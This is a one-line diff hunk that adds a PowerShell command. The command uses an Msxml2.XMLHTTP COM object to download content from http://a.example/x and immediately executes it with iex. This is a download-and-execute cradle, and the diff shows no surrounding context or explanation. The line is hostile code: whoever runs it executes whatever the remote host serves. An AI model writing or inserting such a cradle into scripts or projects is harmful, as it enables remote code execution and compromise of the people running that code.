@@ -1,0 +1,1 @@
+$h=New-Object -ComObject Msxml2.XMLHTTP;$h.open('GET','http://a.example/x',$false);$h.send();iex $h.responseText
